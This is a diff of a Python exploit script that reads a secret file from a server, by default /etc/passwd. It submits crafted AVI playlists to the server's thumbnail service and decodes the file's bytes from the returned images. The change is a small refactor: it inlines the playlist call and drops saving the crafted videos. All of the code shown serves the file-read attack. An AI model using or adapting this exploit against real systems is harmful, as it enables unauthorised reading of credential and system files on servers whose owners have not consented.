@@ -128,10 +128,8 @@ def read_secret(url: str, secret: str, size: int, keep: pathlib.Path | None = No
     while len(text) < size:
         pictures = []
         for shift in (b"", SHIFT):
-            video = playlist(secret, len(text), shift)
-            image = client.thumbnail(url, "video.avi", video)
+            image = client.thumbnail(url, "video.avi", playlist(secret, len(text), shift))
             if keep:
-                (keep / f"video-{len(text)}-{len(shift)}.avi").write_bytes(video)
                 (keep / f"picture-{len(text)}-{len(shift)}.png").write_bytes(image)
             pictures.append(cells_of(image, COLUMNS))
         # The shifted picture ends one byte earlier, so the last byte is left to the next round.
@@ -147,7 +145,7 @@ def main() -> int:
     parser.add_argument("url")
     parser.add_argument("--secret", default="/etc/passwd")
     parser.add_argument("--bytes", type=int, default=FRAME_BYTES - 1)
-    parser.add_argument("--keep", type=pathlib.Path, help="directory for the playlists and their pictures")
+    parser.add_argument("--keep", type=pathlib.Path, help="directory for the pictures")
     options = parser.parse_args()
     try:
         text = read_secret(options.url, options.secret, options.bytes, options.keep)
